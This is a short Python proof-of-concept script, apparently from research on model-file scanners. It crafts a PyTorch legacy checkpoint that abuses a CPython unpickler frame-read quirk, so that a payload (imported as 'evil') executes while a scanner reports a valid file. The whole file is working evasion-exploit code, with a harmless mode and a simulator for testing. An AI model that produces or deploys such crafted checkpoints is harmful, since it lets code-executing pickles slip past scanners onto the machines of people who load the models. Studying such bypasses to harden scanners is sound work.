# Same C-unpickler quirk as z2 on the legacy stream: torch opens the file buffered, but a FRAME of >= 128 KiB
# (CPython PREFETCH) is fetched with read(), so the opcode argument straddling its end is re-read from the frame end.
# The trick sits in the magic-number pickle; the scanner sees a valid legacy checkpoint.
# usage: python3 l1_legacy_frame_straddle.py OUT [print]
import sys, struct, io, pickle; import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib')); from common import evil
out = sys.argv[1]; harmless = len(sys.argv) > 2
E = evil(harmless, proto=0)
base = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), '../../../../testdata/torch/noncontiguous_legacy.pt'), 'rb').read()
rest = base[15:]
r = 1 << 17; N = r + 64
frame = b'X' + struct.pack('<I', N) + b'J' * r
P = b'A' * (N - r) + b'0B' + struct.pack('<I', r - 6 + len(E)) + b'F' * (r - 6) + E + b'0' + b'\x8a\x0a' + (0x1950a86a20f9469cfc6c).to_bytes(10, 'little') + b'.'
open(out, 'wb').write(b'\x80\x04\x95' + struct.pack('<Q', len(frame)) + frame + P + rest)
if harmless:
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib')); import torchsim
    print(torchsim.sim(out))
